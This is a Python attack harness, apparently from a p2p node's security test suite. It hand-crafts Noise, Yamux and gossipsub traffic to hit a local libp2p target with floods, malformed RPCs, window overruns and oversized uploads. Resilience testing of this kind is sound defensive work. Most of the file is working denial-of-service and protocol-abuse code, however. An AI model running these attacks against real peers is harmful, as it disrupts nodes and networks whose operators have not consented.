"""The attacker of the p2p attack tests: one attack class per subcommand, in its own process.

    python adversary.py ATTACK TARGET_ADDRESS TOPIC [--name value ...]

Where py-libp2p would refuse to send the malformed thing, the attacker speaks the wire
itself: TCP from another loopback address (127.0.0.2, so per-IP limits on the target
tell it apart from the honest peers on 127.0.0.1), the library's Noise handshake and
multistream-select, then Yamux frames and pubsub RPCs built by hand. Attacks that only
need honest wire format with hostile content use a real P2PNode.

Each attack runs until done or until --seconds, keeps its connections for --hold
seconds, then prints one JSON line describing what it did and exits.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.keys import KeyPair
from libp2p.crypto.pb import crypto_pb2
from libp2p.crypto.x25519 import create_new_key_pair as create_x25519_key_pair
from libp2p.custom_types import TProtocol
from libp2p.identity.identify.pb.identify_pb2 import Identify
from libp2p.io.trio import TrioTCPStream
from libp2p.io.utils import read_exactly
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID
from libp2p.protocol_muxer.multiselect_client import MultiselectClient
from libp2p.protocol_muxer.multiselect_communicator import MultiselectCommunicator
from libp2p.pubsub.pb import rpc_pb2
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.utils.varint import encode_delim, encode_uvarint

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

ATTACKER_IP = "127.0.0.2"
MESHSUB = "/meshsub/1.1.0"
INPUT = "/capa/input/1"
EVIDENCE = "/capa/evidence/1"
IDENTIFY_PUSH = "/ipfs/id/push/1.0.0"
KIB = 1024
MIB = 1024 * KIB

HEADER = "!BBHII"
DATA, WINDOW_UPDATE, PING, GO_AWAY = 0, 1, 2, 3
SYN, ACK, FIN, RST = 1, 2, 4, 8


class Session:
    """One hand-driven connection: Noise with a key of our choosing, then raw Yamux."""

    def __init__(self, secure: Any, key_pair: KeyPair) -> None:
        self.secure = secure
        self.key_pair = key_pair
        self.peer_id = ID.from_pubkey(key_pair.public_key)
        self.closed = trio.Event()
        self._next_id = 1

    async def frame(self, typ: int, flags: int, sid: int, length: int, body: bytes = b"") -> None:
        await self.secure.write(struct.pack(HEADER, 0, typ, flags, sid, length) + body)

    async def open_stream(self, protocol: str | None = None, payload: bytes = b"") -> int:
        """SYN a stream; with a protocol, negotiate it optimistically and send `payload`."""
        sid = self._next_id
        self._next_id += 2
        body = b""
        if protocol is not None:
            body = encode_delim(b"/multistream/1.0.0") + encode_delim(protocol.encode())
        body += payload
        if body:
            await self.frame(DATA, SYN, sid, len(body), body)
        else:
            await self.frame(WINDOW_UPDATE, SYN, sid, 0)
        return sid

    async def send(self, sid: int, data: bytes, piece: int = 64 * KIB) -> None:
        """DATA frames regardless of the window the remote granted."""
        for start in range(0, len(data), piece):
            chunk = data[start : start + piece]
            await self.frame(DATA, 0, sid, len(chunk), chunk)

    async def drain(self) -> None:
        """Read and drop whatever the target sends, so it never blocks writing to us;
        `closed` is set when the target ends the connection."""
        try:
            while True:
                header = await read_exactly(self.secure, 12)
                _v, typ, _flags, _sid, length = struct.unpack(HEADER, header)
                if typ == DATA and length:
                    await read_exactly(self.secure, length)
                if typ == GO_AWAY:
                    break
        except Exception:
            pass
        finally:
            self.closed.set()

    async def close(self) -> None:
        with contextlib.suppress(Exception):
            await self.secure.close()


def endpoint(target: str) -> tuple[str, int]:
    parts = target.rpartition("/p2p/")[0].split("/")
    return parts[2], int(parts[4])


async def dial(
    target: str,
    key_pair: KeyPair | None = None,
    timeout_s: float = 10.0,
    local_ip: str = ATTACKER_IP,
) -> Session:
    peer = target.rpartition("/p2p/")[2]
    host, port = endpoint(target)
    key_pair = key_pair or create_new_key_pair()
    with trio.fail_after(timeout_s):
        tcp = await trio.open_tcp_stream(host, port, local_address=local_ip)
        raw = RawConnection(TrioTCPStream(tcp), True)
        await MultiselectClient().select_one_of([TProtocol("/noise")], MultiselectCommunicator(raw))
        noise = NoiseTransport(key_pair, noise_privkey=create_x25519_key_pair().private_key)
        secure = await noise.secure_outbound(raw, ID.from_base58(peer))
        await MultiselectClient().select_one_of(
            [TProtocol("/yamux/1.0.0")], MultiselectCommunicator(secure)
        )
    return Session(secure, key_pair)


def rpc_bytes(rpc: rpc_pb2.RPC) -> bytes:
    data = rpc.SerializeToString()
    return encode_uvarint(len(data)) + data


def frame(payload: bytes) -> bytes:
    return len(payload).to_bytes(4, "big") + payload


async def hold_until(deadline: float, session: Session | None = None) -> None:
    while time.monotonic() < deadline and not (session is not None and session.closed.is_set()):
        await trio.sleep(0.1)


# ------------------------------------------------------------------ attack classes


async def malformed_rpc(args: argparse.Namespace) -> dict[str, Any]:
    """6 bytes that are no protobuf, then a subscription whose topic is not UTF-8."""
    key = create_new_key_pair()
    closed = 0
    bad_topic = bytes([0x08, 1, 0x12, 2, 0xFF, 0xFE])
    payloads = [encode_uvarint(6) + b"\xff" * 6, encode_uvarint(8) + b"\x0a\x06" + bad_topic]
    for payload in payloads * args.repeat:
        try:
            session = await dial(args.target, key)
        except Exception:
            closed += 1  # refused: banned
            continue
        async with trio.open_nursery() as nursery:
            nursery.start_soon(session.drain)
            await session.open_stream(MESHSUB, payload)
            await hold_until(time.monotonic() + 0.5, session)
            closed += session.closed.is_set()
            await session.close()
            nursery.cancel_scope.cancel()
    return {"sent": len(payloads) * args.repeat, "closed_by_target": closed}


def _non_inline_id() -> ID:
    """A peer id that is a SHA-256 multihash, so the key must come in the message."""
    return ID(b"\x12\x20" + os.urandom(32))


async def bad_key(args: argparse.Namespace) -> dict[str, Any]:
    """A pubsub message on the offer topic whose `key` is no Ed25519 key."""
    session = await dial(args.target)
    key = crypto_pb2.PublicKey(key_type=crypto_pb2.Ed25519, data=b"12345").SerializeToString()
    sent = 0
    async with trio.open_nursery() as nursery:
        nursery.start_soon(session.drain)
        sid = await session.open_stream(MESHSUB)
        for _ in range(args.repeat):
            msg = rpc_pb2.Message(
                from_id=_non_inline_id().to_bytes(),
                data=b"{}",
                seqno=os.urandom(8),
                topicIDs=[args.topic],
                signature=os.urandom(64),
                key=key,
            )
            try:
                await session.send(sid, rpc_bytes(rpc_pb2.RPC(publish=[msg])))
            except Exception:
                break
            sent += 1
            await trio.sleep(0.2)
        await hold_until(time.monotonic() + 1.0, session)
        nursery.cancel_scope.cancel()
    return {"sent": sent, "closed_by_target": session.closed.is_set()}


async def _node() -> Any:
    from node.p2p.config import P2PConfig
    from node.p2p.identity import Multiaddr, NodeIdentity
    from node.p2p.node import P2PNode

    config = P2PConfig(
        chain_id=31337,
        market_address="0x5FbDB2315678afecb367f032d93F642f64180aa3",
        listen_addrs=(Multiaddr(f"/ip4/{ATTACKER_IP}/tcp/0"),),
        dial_timeout_s=5.0,
    )
    return P2PNode(NodeIdentity.generate(), config)


async def _with_node(body: Callable[[Any, Any], Awaitable[dict[str, Any]]], target: str) -> Any:
    from node.p2p.identity import PeerAddress

    node = await _node()
    address = PeerAddress.parse(target)
    async with trio.open_nursery() as nursery:
        await nursery.start(node.run)
        await node.host.connect(address)
        result = await body(node, address)
        nursery.cancel_scope.cancel()
    return result


async def concurrent_upload(args: argparse.Namespace) -> dict[str, Any]:
    """Two /capa/input/1 uploads for the same job id at once, chunks interleaved."""
    from node.p2p.wire import decode_object, encode_object, hex_of

    data = os.urandom(512 * KIB)
    header = {
        "job": hex_of(b"\x42" * 32),
        "size": len(data),
        "sha256": hex_of(hashlib.sha256(data).digest()),
        "chunk": 256 * KIB,
    }

    async def body(node: Any, address: Any) -> dict[str, Any]:
        replies: list[Any] = []

        async def one() -> None:
            try:
                async with node.host.exchange(address.peer_id, INPUT, 5.0) as stream:
                    await stream.write_frame(encode_object(header))
                    reply = decode_object(await stream.read_frame(4096, 5.0))
                    replies.append(reply)
                    await trio.sleep(0.3)  # both streams have begun before any chunk
                    if reply.get("ok"):
                        for start in range(0, len(data), 256 * KIB):
                            await stream.write_frame(data[start : start + 256 * KIB])
                        replies.append(decode_object(await stream.read_frame(4096, 5.0)))
            except Exception as exc:
                replies.append({"error": repr(exc)})

        for _ in range(args.repeat):
            async with trio.open_nursery() as nursery:
                nursery.start_soon(one)
                nursery.start_soon(one)
        return {"replies": [str(r) for r in replies]}

    return await _with_node(body, args.target)  # type: ignore[no-any-return]


async def conn_flood(args: argparse.Namespace) -> dict[str, Any]:
    """Many short connections, each a full Noise handshake with a fresh identity."""
    established = refused = 0
    limiter = trio.CapacityLimiter(8)

    async def one() -> None:
        nonlocal established, refused
        async with limiter:
            try:
                session = await dial(args.target, timeout_s=5.0)
            except Exception:
                refused += 1
                return
            established += 1
            await trio.sleep(0.05)
            await session.close()

    deadline = time.monotonic() + args.seconds
    async with trio.open_nursery() as nursery:
        for _ in range(args.count):
            if time.monotonic() > deadline:
                break
            nursery.start_soon(one)
            await trio.sleep(0.005)
    return {"established": established, "refused": refused}


async def violate_then_reconnect(args: argparse.Namespace) -> dict[str, Any]:
    """Two protocol violations (oversized frames) a second apart, then the same identity
    dials again and pings: a banned peer must be refused before it is served anything."""
    from node.p2p.config import P2PConfig
    from node.p2p.identity import Multiaddr, NodeIdentity, PeerAddress
    from node.p2p.node import P2PNode

    identity = NodeIdentity.generate()
    config = P2PConfig(
        chain_id=31337,
        market_address="0x5FbDB2315678afecb367f032d93F642f64180aa3",
        listen_addrs=(Multiaddr(f"/ip4/{ATTACKER_IP}/tcp/0"),),
        dial_timeout_s=5.0,
    )
    address = PeerAddress.parse(args.target)
    result: dict[str, Any] = {}
    node = P2PNode(identity, config)
    async with trio.open_nursery() as nursery:
        await nursery.start(node.run)
        await node.host.connect(address)
        for i in range(args.repeat):
            try:
                async with node.host.exchange(address.peer_id, INPUT, 5.0) as stream:
                    await stream._stream.write((64 * MIB).to_bytes(4, "big"))
                    await stream.read_frame(4096, 3.0)
            except Exception as exc:
                result[f"violation_{i}"] = type(exc).__name__
            await trio.sleep(1.0)
        nursery.cancel_scope.cancel()
    # The same identity, fresh process state: a new host dials in.
    again = P2PNode(identity, config)
    async with trio.open_nursery() as nursery:
        await nursery.start(again.run)
        try:
            await again.host.connect(address)
            result["reconnected"] = True
            result["ping_rtt"] = await again.host.ping(address.peer_id, 3.0)
        except Exception as exc:
            result["reconnected"] = result.get("reconnected", False)
            result["refused"] = type(exc).__name__
        nursery.cancel_scope.cancel()
    return result


async def window_overrun(args: argparse.Namespace) -> dict[str, Any]:
    """A served request, then DATA on the half-closed stream far past its window."""
    session = await dial(args.target)
    sent = 0
    chunk = os.urandom(64 * KIB)
    deadline = time.monotonic() + args.seconds
    async with trio.open_nursery() as nursery:
        nursery.start_soon(session.drain)
        sid = await session.open_stream(EVIDENCE, frame(b'{"v":1}'))
        await trio.sleep(0.3)
        while sent < args.mib * MIB and time.monotonic() < deadline:
            if session.closed.is_set():
                break
            try:
                await session.frame(DATA, 0, sid, len(chunk), chunk)
            except Exception:
                break
            sent += len(chunk)
        await hold_until(time.monotonic() + args.hold, session)
        nursery.cancel_scope.cancel()
    return {"sent_mib": sent / MIB, "closed_by_target": session.closed.is_set()}


async def upload_flood(args: argparse.Namespace) -> dict[str, Any]:
    """Concurrent complete uploads, then partial ones announcing 4 GiB, from a few
    identities (each a P2PNode); the partial ones stop mid-way and leave."""
    from node.p2p.identity import PeerAddress
    from node.p2p.transfer import upload_input
    from node.p2p.wire import decode_object, encode_object, hex_of

    address = PeerAddress.parse(args.target)
    outcome: dict[str, int] = {}
    data = os.urandom(args.mib * MIB)
    digest = hashlib.sha256(data).digest()

    def count(key: str) -> None:
        outcome[key] = outcome.get(key, 0) + 1

    async def complete(node: Any) -> None:
        try:
            await upload_input(node.host, address.peer_id, os.urandom(32), data, sha256=digest)
            count("complete")
        except Exception as exc:
            count(type(exc).__name__)

    async def partial(node: Any) -> None:
        header = {
            "job": hex_of(os.urandom(32)),
            "size": 4 * 1024 * MIB,
            "sha256": hex_of(os.urandom(32)),
            "chunk": MIB,
        }
        try:
            async with node.host.exchange(address.peer_id, INPUT, 5.0) as stream:
                await stream.write_frame(encode_object(header))
                reply = decode_object(await stream.read_frame(4096, 5.0))
                if not reply.get("ok"):
                    count(f"partial_refused_{reply.get('reason')}")
                    return
                for start in range(0, len(data), MIB):
                    await stream.write_frame(data[start : start + MIB])
                count("partial_sent")
        except Exception as exc:
            count(type(exc).__name__)

    nodes = [await _node() for _ in range(args.identities)]
    async with trio.open_nursery() as outer:
        for node in nodes:
            await outer.start(node.run)
            await node.host.connect(address)
        async with trio.open_nursery() as nursery:
            for i in range(args.count):
                nursery.start_soon(complete, nodes[i % len(nodes)])
        async with trio.open_nursery() as nursery:
            for i in range(args.count):
                nursery.start_soon(partial, nodes[i % len(nodes)])
        outer.cancel_scope.cancel()
    return outcome


async def _pubsub_flood(
    args: argparse.Namespace, build: Callable[[Session], rpc_pb2.RPC]
) -> dict[str, Any]:
    sent = 0
    sessions = 0
    deadline = time.monotonic() + args.seconds
    key = create_new_key_pair()  # one attacker, reconnecting when cut off
    while sent < args.count and time.monotonic() < deadline:
        try:
            session = await dial(args.target, key)
        except Exception:
            break  # refused: banned
        sessions += 1
        async with trio.open_nursery() as nursery:
            nursery.start_soon(session.drain)
            sid = await session.open_stream(MESHSUB)
            while sent < args.count and time.monotonic() < deadline:
                if session.closed.is_set():
                    break
                try:
                    await session.send(sid, rpc_bytes(build(session)))
                except Exception:
                    break
                sent += 1
                await trio.sleep(0)
            nursery.cancel_scope.cancel()
        await session.close()
    return {"rpcs": sent, "sessions": sessions}


async def prune_flood(args: argparse.Namespace) -> dict[str, Any]:
    """PRUNEs for random topics with a 2^62 s back-off."""

    def build(_: Session) -> rpc_pb2.RPC:
        prunes = [
            rpc_pb2.ControlPrune(topicID=os.urandom(12).hex(), backoff=2**62)
            for _ in range(args.per_rpc)
        ]
        return rpc_pb2.RPC(control=rpc_pb2.ControlMessage(prune=prunes))

    return await _pubsub_flood(args, build)


async def graft_flood(args: argparse.Namespace) -> dict[str, Any]:
    """GRAFTs for random topics: each used to cost the target a PRUNE with peer exchange."""

    def build(_: Session) -> rpc_pb2.RPC:
        grafts = [rpc_pb2.ControlGraft(topicID=os.urandom(12).hex()) for _ in range(args.per_rpc)]
        return rpc_pb2.RPC(control=rpc_pb2.ControlMessage(graft=grafts))

    return await _pubsub_flood(args, build)


async def bad_signature_flood(args: argparse.Namespace) -> dict[str, Any]:
    """Messages on the offer topic from our own (inlined) key with random signatures."""

    def build(session: Session) -> rpc_pb2.RPC:
        messages = [
            rpc_pb2.Message(
                from_id=session.peer_id.to_bytes(),
                data=os.urandom(64),
                seqno=os.urandom(8),
                topicIDs=[args.topic],
                signature=os.urandom(64),
            )
            for _ in range(args.per_rpc)
        ]
        return rpc_pb2.RPC(publish=messages)

    return await _pubsub_flood(args, build)


async def identify_push_flood(args: argparse.Namespace) -> dict[str, Any]:
    """From many identities, identify/push messages of ~1 MiB of protocol strings."""
    pushed = refused = 0
    protocols = [os.urandom(3).hex() for _ in range(args.per_rpc)]
    message = Identify(protocols=protocols).SerializeToString()
    payload = encode_uvarint(len(message)) + message
    deadline = time.monotonic() + args.seconds
    for _ in range(args.count):
        if time.monotonic() > deadline:
            break
        try:
            session = await dial(args.target)
        except Exception:
            refused += 1
            continue
        async with trio.open_nursery() as nursery:
            nursery.start_soon(session.drain)
            try:
                sid = await session.open_stream(IDENTIFY_PUSH)
                await session.send(sid, payload)
                await session.frame(WINDOW_UPDATE, FIN, sid, 0)
                pushed += 1
            except Exception:
                pass
            await hold_until(time.monotonic() + 0.3, session)
            nursery.cancel_scope.cancel()
        await session.close()
    return {"pushed": pushed, "refused": refused, "message_bytes": len(message)}


async def stream_flood(args: argparse.Namespace) -> dict[str, Any]:
    """Streams opened and never closed on one connection (optionally negotiated to a
    protocol, as the held /meshsub streams of the red-team run), reconnecting when cut."""
    opened = sessions = 0
    deadline = time.monotonic() + args.seconds
    held: list[Session] = []
    key = create_new_key_pair()  # one attacker, reconnecting when cut off
    async with trio.open_nursery() as nursery:
        while opened < args.count and time.monotonic() < deadline:
            try:
                session = await dial(args.target, key)
            except Exception:
                break
            sessions += 1
            held.append(session)
            nursery.start_soon(session.drain)
            while opened < args.count and time.monotonic() < deadline:
                if session.closed.is_set():
                    break
                try:
                    await session.open_stream(args.protocol or None)
                except Exception:
                    break
                opened += 1
                if opened % 64 == 0:
                    await trio.sleep(0.01)
        await hold_until(time.monotonic() + args.hold)
        nursery.cancel_scope.cancel()
    return {"opened": opened, "sessions": sessions}


ATTACKS: dict[str, Callable[[argparse.Namespace], Awaitable[dict[str, Any]]]] = {
    "malformed-rpc": malformed_rpc,
    "bad-key": bad_key,
    "concurrent-upload": concurrent_upload,
    "conn-flood": conn_flood,
    "violate-then-reconnect": violate_then_reconnect,
    "window-overrun": window_overrun,
    "upload-flood": upload_flood,
    "prune-flood": prune_flood,
    "graft-flood": graft_flood,
    "bad-signature-flood": bad_signature_flood,
    "identify-push-flood": identify_push_flood,
    "stream-flood": stream_flood,
}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("target")
    parser.add_argument("topic")
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--per-rpc", type=int, default=100)
    parser.add_argument("--repeat", type=int, default=2)
    parser.add_argument("--mib", type=int, default=64)
    parser.add_argument("--identities", type=int, default=4)
    parser.add_argument("--protocol", default="")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--hold", type=float, default=0.0)
    parser.add_argument("--linger", type=float, default=2.0)
    args = parser.parse_args()
    started = time.monotonic()
    print("ATTACKING", flush=True)

    async def attack_then_linger() -> dict[str, Any]:
        result = await ATTACKS[args.attack](args)
        # The harness keeps probing while this process lives: a short attack still gets
        # its "during" probes.
        await trio.sleep(args.linger)
        return result

    result = trio.run(attack_then_linger)
    result["elapsed_s"] = round(time.monotonic() - started, 2)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
